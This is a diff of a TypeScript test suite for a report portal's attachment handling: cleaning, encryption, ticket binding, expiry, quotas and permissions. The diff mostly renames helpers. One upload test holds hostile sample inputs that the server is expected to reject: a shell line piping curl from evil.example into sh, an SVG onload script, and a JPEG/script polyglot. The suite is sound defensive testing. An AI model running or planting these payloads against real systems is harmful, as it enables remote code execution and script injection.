@@ -18,8 +18,8 @@ import { buildMp4, TINY_JPEG, VIDEO_SAMPLE, withExif } from '../../cleaning/samp
 import { plugin } from '../../plugin.ts'
 import type { ReportTables } from '../../voluntary-reports/report.tables.ts'
 import { destroyFiles } from '../../voluntary-reports/files/report-files.ts'
-import { requestTicket, listed, openedFile, openedTicket, sendFile, sendPart } from './report-file-steps.ts'
-import { deskRows, file, filed, HE_HUIMIN, newCode, newReport, officeIdentity } from './report-steps.ts'
+import { requestTicket, listFiles, openFile, openTicket, sendFile, sendPart } from './report-file-steps.ts'
+import { deskRows, tryFileReport, fileReport, HE_HUIMIN, newCode, findNewReport, officeIdentity } from './report-steps.ts'
 
 const LI_ZE = '100305'
 const CHEN_QIMING = '100001'
@@ -67,14 +67,14 @@ describeOnStores('attachments of a voluntary report', store => {
   async function openForm() {
     server.clock.forward(AN_HOUR)
     const visitor = server.client()
-    return { visitor, ticket: await openedTicket(visitor) }
+    return { visitor, ticket: await openTicket(visitor) }
   }
 
   async function sendReport(visitor: PortalClient, ticket: FileTicket) {
     const handler = await server.as(HE_HUIMIN)
     const before = await deskRows(handler)
-    await filed(visitor, { ticket })
-    return { handler, id: await newReport(handler, before) }
+    await fileReport(visitor, { ticket })
+    return { handler, id: await findNewReport(handler, before) }
   }
 
   const countFiles = async () => {
@@ -83,7 +83,7 @@ describeOnStores('attachments of a voluntary report', store => {
     return rows[0]?.count ?? 0
   }
 
-  it('[SQ-40, SQ-42] go from the form to the desk, cleaned, for each kind', async () => {
+  it('[SQ-40, SQ-42] passes them from the form to the desk, cleaned, for each kind', async () => {
     const { visitor, ticket } = await openForm()
     const files = [JPEG, png(8, MARKER), await pdf(MARKER), buildMp4(MARKER)]
     for (const bytes of files) {
@@ -92,14 +92,14 @@ describeOnStores('attachments of a voluntary report', store => {
       expect(envelope.data.kept?.size).toBe(65_536)
     }
     const { handler, id } = await sendReport(visitor, ticket)
-    const shown = await listed(handler, id)
+    const shown = await listFiles(handler, id)
     expect(shown.map(({ kind }) => kind).toSorted()).toEqual(['jpeg', 'mp4', 'pdf', 'png'])
     expect(Object.keys(shown[0] ?? {}).toSorted()).toEqual(['id', 'kind', 'parts', 'size'])
     const identity = await officeIdentity(handler)
     const contents = new Map<string, Buffer>()
     for (const each of shown) {
       // oxlint-disable-next-line no-await-in-loop -- one after the other, as people open them
-      contents.set(each.kind, await openedFile(handler, identity, each))
+      contents.set(each.kind, await openFile(handler, identity, each))
     }
     expect(contents.get('jpeg')?.subarray(0, 3).toString('hex')).toBe('ffd8ff')
     expect(contents.get('png')?.includes('IHDR')).toBe(true)
@@ -108,7 +108,7 @@ describeOnStores('attachments of a voluntary report', store => {
     for (const content of contents.values()) expect(content.includes(MARKER)).toBe(false)
   })
 
-  it('[SQ-42] are stored as ciphertext, before and after filing, without time, name or link to the ticket', async () => {
+  it('[SQ-42] stores them as ciphertext, before and after filing, without time, name or link to the ticket', async () => {
     const { visitor, ticket } = await openForm()
     const big = Buffer.concat([buildMp4(MARKER), Buffer.alloc(8)])
     big.writeUInt32BE(FILE_PART_BYTES, big.length - 8)
@@ -116,7 +116,7 @@ describeOnStores('attachments of a voluntary report', store => {
     const bytes = Buffer.concat([big, Buffer.alloc(FILE_PART_BYTES - 8, MARKER)])
     const own = randomUUID()
     await sendPart(visitor, 0, { ticket, bytes, file: own })
-    const stored = async () => {
+    const readStored = async () => {
       const { rows } = await sql<{ row: string; content: Buffer }>`
         select row_to_json(f)::text as row, p.content
         from safety_quality_report_file f join safety_quality_report_file_part p on p.file_id = f.id`.execute(
@@ -127,19 +127,19 @@ describeOnStores('attachments of a voluntary report', store => {
       const isPlain = [MARKER, 'ftyp', 'moov', ticket.form].some(word => contents.includes(word))
       return { columns, contents, isPlain }
     }
-    const unfinished = await stored()
+    const unfinished = await readStored()
     expect(unfinished.columns).toContain(own)
     expect(unfinished.isPlain).toBe(false)
     expect((await sendPart(visitor, 1, { ticket, bytes, file: own })).envelope.data.kept?.kind).toBe('mp4')
     await sendReport(visitor, ticket)
-    const finished = await stored()
+    const finished = await readStored()
     expect(finished.columns).not.toContain(own)
     expect(finished.columns).not.toMatch(/\d\d:\d\d/)
     expect(finished.isPlain).toBe(false)
     expect(finished.contents.includes('age-encryption.org')).toBe(true)
   })
 
-  it('[SQ-41] belong to one report: a used ticket accepts no file and no second report', async () => {
+  it('[SQ-41] binds them to one report: a used ticket accepts no file and no second report', async () => {
     const { visitor, ticket } = await openForm()
     const bytes = JPEG
     const removed = randomUUID()
@@ -150,29 +150,29 @@ describeOnStores('attachments of a voluntary report', store => {
     const { envelope } = await visitor.call(calls.removeReportFile, { body: { ticket, file: removed } })
     expect(envelope.data.removed).toBe(true)
     const { handler, id } = await sendReport(visitor, ticket)
-    expect(await listed(handler, id)).toHaveLength(1)
+    expect(await listFiles(handler, id)).toHaveLength(1)
     expect((await sendFile(visitor, { ticket, bytes })).envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
-    const second = await file(visitor, { ticket })
+    const second = await tryFileReport(visitor, { ticket })
     expect(second.envelope.msg).toBe(REPORT_ERRORS.ticketOver.zh)
-    expect(await listed(handler, id)).toHaveLength(1)
+    expect(await listFiles(handler, id)).toHaveLength(1)
   })
 
-  it('[SQ-41] stay when the same report is sent twice', async () => {
+  it('[SQ-41] keeps them when the same report is sent twice', async () => {
     const { visitor, ticket } = await openForm()
     await sendFile(visitor, { ticket, bytes: JPEG })
     const handler = await server.as(HE_HUIMIN)
     const before = await deskRows(handler)
     const code = newCode()
-    const sent = [await file(visitor, { ticket, code }), await file(visitor, { ticket, code })]
+    const sent = [await tryFileReport(visitor, { ticket, code }), await tryFileReport(visitor, { ticket, code })]
     expect(sent[0]?.envelope.data).toEqual(sent[1]?.envelope.data)
-    expect(await listed(handler, await newReport(handler, before))).toHaveLength(1)
+    expect(await listFiles(handler, await findNewReport(handler, before))).toHaveLength(1)
   })
 
-  it('[SQ-41] cannot be changed with the ticket of another form or a forged one', async () => {
+  it('[SQ-41] rejects changes with the ticket of another form or a forged one', async () => {
     const { visitor, ticket } = await openForm()
     const foreign = randomUUID()
     await sendFile(visitor, { ticket, bytes: JPEG, file: foreign })
-    const other = await openedTicket(visitor)
+    const other = await openTicket(visitor)
     const body = { ticket: other, file: foreign }
     expect((await visitor.call(calls.removeReportFile, { body })).envelope.data.removed).toBe(false)
     const same = await sendFile(visitor, { ticket: other, bytes: JPEG, file: foreign })
@@ -187,53 +187,53 @@ describeOnStores('attachments of a voluntary report', store => {
       expect(envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
     }
     const { handler, id } = await sendReport(visitor, other)
-    expect(await listed(handler, id)).toEqual([])
+    expect(await listFiles(handler, id)).toEqual([])
   })
 
-  it('[SQ-41] are destroyed after the 60 minutes of their ticket if no report is filed', async () => {
-    const round = jobRounds(store, server.clock, plugin)
-    await round()
+  it('[SQ-41] destroys them after the 60 minutes of their ticket if no report is filed', async () => {
+    const runJobs = jobRounds(store, server.clock, plugin)
+    await runJobs()
     server.clock.forward({ minutes: 90 })
-    await round()
+    await runJobs()
     const before = await countFiles()
     const { visitor, ticket } = await openForm()
     await sendFile(visitor, { ticket, bytes: JPEG })
     server.clock.forward({ minutes: 59 })
-    await round()
+    await runJobs()
     expect(await countFiles()).toBe(before + 1)
     server.clock.forward({ minutes: 1 })
     expect((await sendFile(visitor, { ticket, bytes: JPEG })).envelope.code).toBe(
       REPORT_ERRORS.ticketOver.code,
     )
-    expect((await file(visitor, { ticket })).envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
+    expect((await tryFileReport(visitor, { ticket })).envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
     server.clock.forward({ minutes: 15 })
-    await round()
+    await runJobs()
     expect(await countFiles()).toBe(before)
     const { rows } = await sql<{ count: number }>`
       select count(*)::int as count from safety_quality_file_ticket`.execute(store.database.kysely)
     expect(rows[0]?.count).toBe(0)
   })
 
-  it('[SQ-40] are limited to five; rejects other kinds, a script named as a photo, oversized and damaged files', async () => {
+  it('[SQ-40] limits them to five, and rejects other kinds, a script named as a photo, oversized and damaged files', async () => {
     const { visitor, ticket } = await openForm()
-    const refusedFor = async (bytes: Buffer, size?: number) => {
+    const sendAndGetCode = async (bytes: Buffer, size?: number) => {
       const { envelope } = await sendFile(visitor, { ticket, bytes, ...(size === undefined ? {} : { size }) })
       return envelope.success ? 'taken' : envelope.code
     }
     const script = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')
-    expect(await refusedFor(script)).toBe(REPORT_ERRORS.fileKindWrong.code)
-    expect(await refusedFor(Buffer.from('<svg onload=alert(1)>'))).toBe(REPORT_ERRORS.fileKindWrong.code)
+    expect(await sendAndGetCode(script)).toBe(REPORT_ERRORS.fileKindWrong.code)
+    expect(await sendAndGetCode(Buffer.from('<svg onload=alert(1)>'))).toBe(REPORT_ERRORS.fileKindWrong.code)
     const start = Buffer.concat([JPEG, Buffer.alloc(FILE_PART_BYTES)])
-    expect(await refusedFor(start, 10 * 1024 * 1024 + 1)).toBe(REPORT_ERRORS.fileTooLarge.code)
-    expect(await refusedFor(png(60_000))).toBe(SERVER_ERRORS.imageTooLarge.code)
+    expect(await sendAndGetCode(start, 10 * 1024 * 1024 + 1)).toBe(REPORT_ERRORS.fileTooLarge.code)
+    expect(await sendAndGetCode(png(60_000))).toBe(SERVER_ERRORS.imageTooLarge.code)
     const polyglot = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), script])
-    expect(await refusedFor(polyglot)).toBe(SERVER_ERRORS.fileContentWrong.code)
-    expect(await refusedFor(Buffer.from('%PDF-1.7 <script>'))).toBe(REPORT_ERRORS.fileUnreadable.code)
-    const answers: unknown[] = []
+    expect(await sendAndGetCode(polyglot)).toBe(SERVER_ERRORS.fileContentWrong.code)
+    expect(await sendAndGetCode(Buffer.from('%PDF-1.7 <script>'))).toBe(REPORT_ERRORS.fileUnreadable.code)
+    const results: unknown[] = []
     // oxlint-disable-next-line no-await-in-loop -- one after the other
-    for (let count = 0; count < 50; count += 1) answers.push(await refusedFor(JPEG))
-    expect(answers.slice(0, 5)).toEqual(['taken', 'taken', 'taken', 'taken', 'taken'])
-    expect(new Set(answers.slice(5))).toEqual(new Set([REPORT_ERRORS.filesTooMany.code]))
+    for (let count = 0; count < 50; count += 1) results.push(await sendAndGetCode(JPEG))
+    expect(results.slice(0, 5)).toEqual(['taken', 'taken', 'taken', 'taken', 'taken'])
+    expect(new Set(results.slice(5))).toEqual(new Set([REPORT_ERRORS.filesTooMany.code]))
   })
 
   it('[SQ-40] rejects uploads without a ticket, without proof of work, with invalid parts, and 10 MB of text', async () => {
@@ -268,32 +268,32 @@ describeOnStores('attachments of a voluntary report', store => {
     expect((await sendPart(visitor, 0, gap)).envelope.data.kept).toBeNull()
     const form = randomBytes(32).toString('base64url')
     const work = { salt: 'x', until: 1, mark: 'x', nonce: 1 }
-    const unworked = await visitor.call(calls.openFileTicket, { body: { form, work } })
-    expect(unworked.envelope.code).toBe(REPORT_ERRORS.workWrong.code)
+    const withoutWork = await visitor.call(calls.openFileTicket, { body: { form, work } })
+    expect(withoutWork.envelope.code).toBe(REPORT_ERRORS.workWrong.code)
   })
 
   it('[SQ-41] allows ten tickets an hour per network, counted under a daily key', async () => {
     const { visitor } = await openForm()
-    const statuses: number[] = []
+    const fetchStatuses: number[] = []
     // oxlint-disable-next-line no-await-in-loop -- one after the other
-    for (let count = 0; count < 10; count += 1) statuses.push((await requestTicket(visitor)).status)
-    expect(statuses).toEqual([...Array.from({ length: 9 }, () => 200), 429])
+    for (let count = 0; count < 10; count += 1) fetchStatuses.push((await requestTicket(visitor)).status)
+    expect(fetchStatuses).toEqual([...Array.from({ length: 9 }, () => 200), 429])
   })
 
-  it('[SQ-42] can be listed and read only with the permission to view reports, and not as portal files', async () => {
+  it('[SQ-42] lists and returns them only with the permission to view reports, and not as portal files', async () => {
     const { visitor, ticket } = await openForm()
     await sendFile(visitor, { ticket, bytes: JPEG })
     const { handler, id } = await sendReport(visitor, ticket)
-    const [attachment] = await listed(handler, id)
+    const [attachment] = await listFiles(handler, id)
     const fileId = attachment?.id ?? ''
-    const statuses = async (person: PortalClient) => [
+    const fetchStatuses = async (person: PortalClient) => [
       (await person.call(reportFiles, { query: { id } })).status,
       (await person.call(readReportFilePart, { query: { id: fileId, part: 0 } })).status,
     ]
-    expect(await statuses(server.client())).toEqual([401, 401])
-    expect(await statuses(await server.as(LI_ZE))).toEqual([403, 403])
-    expect(await statuses(await server.as(CHEN_QIMING))).toEqual([403, 403])
-    expect(await statuses(await server.as(SU_MINGYUAN))).toEqual([200, 200])
+    expect(await fetchStatuses(server.client())).toEqual([401, 401])
+    expect(await fetchStatuses(await server.as(LI_ZE))).toEqual([403, 403])
+    expect(await fetchStatuses(await server.as(CHEN_QIMING))).toEqual([403, 403])
+    expect(await fetchStatuses(await server.as(SU_MINGYUAN))).toEqual([200, 200])
     const missing = await handler.call(readReportFilePart, { query: { id: fileId, part: 90 } })
     expect(missing.status).toBe(404)
     const headers = { projectCode: 'AQ', authorization: handler.token ?? '' }
@@ -306,7 +306,7 @@ describeOnStores('attachments of a voluntary report', store => {
     }
   })
 
-  it('[SQ-43] are destroyed for one report without touching those of others', async () => {
+  it('[SQ-43] destroys those of one report without touching those of others', async () => {
     const first = await openForm()
     await sendFile(first.visitor, { ticket: first.ticket, bytes: JPEG })
     const one = await sendReport(first.visitor, first.ticket)
@@ -316,20 +316,20 @@ describeOnStores('attachments of a voluntary report', store => {
     await db()
       .transaction()
       .execute(async trx => destroyFiles(trx, one.id))
-    expect(await listed(other.handler, one.id)).toEqual([])
-    expect(await listed(other.handler, other.id)).toHaveLength(1)
+    expect(await listFiles(other.handler, one.id)).toEqual([])
+    expect(await listFiles(other.handler, other.id)).toHaveLength(1)
   })
 })
 
 describeOnStores('attachments at the storage limit', store => {
   const server = serverOn(store, { plugins: [plugin], settings: { reportFilesBytes: JPEG.length + 10 } })
 
-  it('[SQ-41] are rejected, while reports without them are accepted', async () => {
+  it('[SQ-41] rejects them, while reports without them are accepted', async () => {
     const visitor = server.client()
-    const ticket = await openedTicket(visitor)
+    const ticket = await openTicket(visitor)
     await sendFile(visitor, { ticket, bytes: JPEG })
     const full = await sendFile(visitor, { ticket, bytes: JPEG })
     expect(full.envelope.msg).toBe(REPORT_ERRORS.noRoomForFiles.zh)
-    expect((await file(visitor, { ticket })).envelope.success).toBe(true)
+    expect((await tryFileReport(visitor, { ticket })).envelope.success).toBe(true)
   })
 })
